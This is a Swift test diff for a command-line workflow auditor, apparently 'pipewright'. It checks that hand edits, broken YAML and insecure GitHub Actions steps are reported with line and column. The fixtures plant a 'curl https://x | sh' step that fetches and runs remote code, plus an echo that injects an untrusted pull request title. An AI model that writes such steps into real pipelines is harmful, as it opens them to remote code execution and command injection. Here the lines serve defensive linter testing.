@@ -159,3 +159,45 @@ import Testing
         #expect(scratch.read("pipewright.json") == nil)
     }
 }
+
+/// `pipewright audit` reads the workflow files on disk, generated and hand-written.
+@Suite struct AuditFilesCommandTests {
+    @Test func handEditsAndHandWrittenWorkflowsAreAuditedWhereTheyAre() throws {
+        let scratch = try Scratch()
+        defer { scratch.remove() }
+        #expect(scratch.run("init").code == 0)
+        #expect(scratch.run("audit").code == 0)
+        let file = ".github/workflows/infrastructure.yml"
+        var lines = try #require(scratch.read(file)).components(separatedBy: "\n")
+        let steps = try #require(lines.firstIndex { $0.trimmingCharacters(in: .whitespaces) == "steps:" })
+        let indent = String(repeating: " ", count: lines[steps].prefix { $0 == " " }.count + 2)
+        lines.insert(contentsOf: [indent + "- run: curl https://x | sh", indent + "- run: echo \"${{ github.event.pull_request.title }}\""], at: steps + 1)
+        try scratch.write(lines.joined(separator: "\n"), to: file)
+        try scratch.write(SourceAuditTests.handWrittenCI, to: ".github/workflows/ci.yml")
+
+        let result = scratch.run("audit")
+        #expect(result.code == 1)
+        #expect(result.stdout.contains("\(file):\(steps + 2):1: error PW025 [file] the file was edited by hand"), "\(result.stdout)")
+        #expect(result.stdout.contains("\(file):\(steps + 2):9: error PW014 [jobs.pull-request.steps[0].run]"), "\(result.stdout)")
+        #expect(result.stdout.contains("\(file):\(steps + 3):9: error PW005 [jobs.pull-request.steps[1].run]"), "\(result.stdout)")
+        #expect(result.stdout.contains(".github/workflows/ci.yml:13:11: error PW013"), "\(result.stdout)")
+
+        // A PATH audits only that file.
+        let one = scratch.run("audit", "--format", "json", ".github/workflows/ci.yml")
+        #expect(one.code == 1)
+        #expect(!one.stdout.contains("infrastructure.yml"))
+        #expect(one.stdout.contains(#""line": 13"#) && one.stdout.contains(#""column": 11"#))
+        let sarif = scratch.run("audit", "--format", "sarif", ".github/workflows")
+        #expect(sarif.stdout.contains(#""startColumn": 9"#))
+    }
+
+    @Test func aFileThatIsNotYAMLExits2NamingLineAndColumn() throws {
+        let scratch = try Scratch()
+        defer { scratch.remove() }
+        try scratch.write("on: push\njobs:\n  a: [\n", to: ".github/workflows/broken.yml")
+        let result = scratch.run("audit")
+        #expect(result.code == 2)
+        #expect(result.stderr.contains(".github/workflows/broken.yml:3:6: the flow sequence that starts here never ends; expected ']'"), "\(result.stderr)")
+        #expect(scratch.run("audit", "missing.yml").code == 2)
+    }
+}
